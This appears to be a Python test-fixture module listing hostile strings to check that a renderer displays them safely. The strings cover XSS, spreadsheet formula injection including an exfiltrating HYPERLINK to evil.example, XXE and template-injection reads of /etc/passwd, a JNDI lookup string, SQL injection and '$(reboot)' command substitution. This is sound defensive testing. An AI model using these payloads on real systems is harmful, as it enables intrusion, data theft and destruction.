"""Texts that a person could write to turn a surface against its reader. None states a number."""

from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from itertools import pairwise
from types import MappingProxyType

from dafu.data.schema import LONGEST_NAME

from .hostile_letter import Reach

_ALERT = "alert(document.domain)"
_EVIL = "http://evil.example"

# What begins a text is tried alone; of the rest, as much together as a name may hold.
LEADING: Mapping[str, tuple[str, ...]] = MappingProxyType(
    {
        "spreadsheet formula": (
            "=cmd|' /C calc'!A",
            f'=HYPERLINK("{_EVIL}/?"&A:A)',
            "+A",
            "-A",
            "@SUM(A:A)",
            "＝cmd",
            '"=cmd',
        ),
        "line of Markdown": ("# x", "> x", "- x", "===", "---", "[x]: http://evil.example", "~~~"),
        "HTML": (f"<script>{_ALERT}</script>", f'"><img src=x onerror={_ALERT}>', "<!--", "]]>"),
    }
)
INNER: Mapping[str, tuple[str, ...]] = MappingProxyType(
    {
        "HTML": (
            f"</script><script>{_ALERT}</script>",
            f"<ScRiPt/x>{_ALERT}</sCrIpT >",
            f"<svg/onload={_ALERT}>",
            f"</title></textarea></style><iframe srcdoc='<b>' src={_EVIL}>",
            f"<base href=//evil.example/><link rel=stylesheet href={_EVIL}>",
            "<meta http-equiv=refresh content=//evil.example>",
            "<template><slot name=x></template><math><mtext>",
            f"<a href=javascript:{_ALERT}>",
            "-->",
            "<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
            "<?xml-stylesheet href='x'?>",
            "<![CDATA[x",
            '<!--#include file="/etc/passwd"-->',
            "&lt;b&gt;&amp;&quot;",
            "&colon;&NewLine;&Tab;&#xA;&nosuch;&",
        ),
        "attribute": (
            f'" onmouseover="{_ALERT}',
            f"' autofocus onfocus='{_ALERT}",
            f"` onclick=`{_ALERT}",
            '"/><!--',
            'x" style="background:url(javascript:x)',
            "\\' onload=\\'",
        ),
        "address": (
            f"javascript:{_ALERT}",
            f"JaVaScRiPt:{_ALERT}//",
            f"data:text/html,<script>{_ALERT}</script>",
            "vbscript:x",
            "file:///etc/passwd",
            "//evil.example/x",
            f"{_EVIL}/?a=b&c=d#e",
            "mailto:x@evil.example?bcc=y",
        ),
        "Markdown": (
            "*x* _y_ **z** ~~w~~",
            "`x` ``y``",
            "<http://evil.example>",
            "| a | b |",
            "a \\",
            "x&copy;y",
        ),
        "path": ("../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\CON", "%EF%BB%BF", "x.md#y"),
        "TeX": ("\\input/etc/passwd", "\\immediate\\write", "%", "~^_#$&", "@misc", "\\", "\\\\"),
        "letters": (
            "שלום و سلام",
            "e\u0301\u0327 Z\u0351\u0352\u0353\u0354",
            "𠮷野家 \U00030000",
            "👩 🏳 ☎",
            "ﬁ ﷺ İıſK",
            "ＡＢ",
            "x'y\"z“w”‘v’",
            "a\u3000b",
        ),
        "query": ("x; DROP TABLE figures", "' OR 'a'='a", "$(reboot) `reboot`", "x && y || z"),
    }
)
BRACKETS = (
    f"[x](javascript:{_ALERT})",
    f"![x]({_EVIL}/x.png)",
    "[x][y] [x]",
    "]( [",
    "\\[x\\] [[x]]",
    "{: onclick=x }[x",
)
BRACES: Mapping[str, tuple[str, ...]] = MappingProxyType(
    {
        "Jinja": (
            "{{ config }}",
            '{% include "/etc/passwd" %}',
            "{# x #}",
            "{{ ''.__class__.__mro__ }}",
            "{% raw %}",
            "{{",
            "%}",
            "{% for x in range(y) %}",
        ),
        "format": (
            "{a.__class__}",
            "{}",
            "{x!r:>}",
            "%(x)s %s %n",
            "${jndi:ldap://evil.example}",
            "#{x} <%= x %>",
        ),
        "TeX with braces": ("}, url = {x}", "}}", "{", "}}@misc{x", "\\input{/etc/passwd}"),
        "Markdown with braces": ("{: onclick=x }", "{#top .x}"),
        "space": ("a  b", "x\u00a0\u2003=x"),
    }
)  # fmt: skip


@dataclass(frozen=True, slots=True, kw_only=True)
class Text:
    """Texts that stand together in every place within reach; `count` is how many there are."""

    kind: str
    text: str
    reach: Reach
    count: int = 1


def _joined(kind: str, texts: tuple[str, ...], reach: Reach) -> Iterator[Text]:
    some: list[str] = []
    for text, following in pairwise([*texts, "甲" * LONGEST_NAME]):
        some.append(text)
        joined = "甲".join(some)
        if len(joined) + len(following) >= LONGEST_NAME:
            yield Text(kind=kind, text=joined, reach=reach, count=len(some))
            some = []


def texts() -> Iterator[Text]:
    """All texts that are to be shown as they stand."""
    for kind, leading in LEADING.items():
        for text in leading:
            reach = Reach.SENTENCES if set(text) & set("[]") else Reach.MARKS
            yield Text(kind=kind, text=text, reach=reach)
    for kind, inner in INNER.items():
        reach = Reach.SENTENCES if set("".join(inner)) & set("[]") else Reach.MARKS
        yield from _joined(kind, inner, reach)
    yield from _joined("brackets", BRACKETS[:-1], Reach.SENTENCES)
    yield from _joined("brackets", BRACKETS[-1:], Reach.OWN)
    for kind, braces in BRACES.items():
        yield from _joined(kind, braces, Reach.OWN)
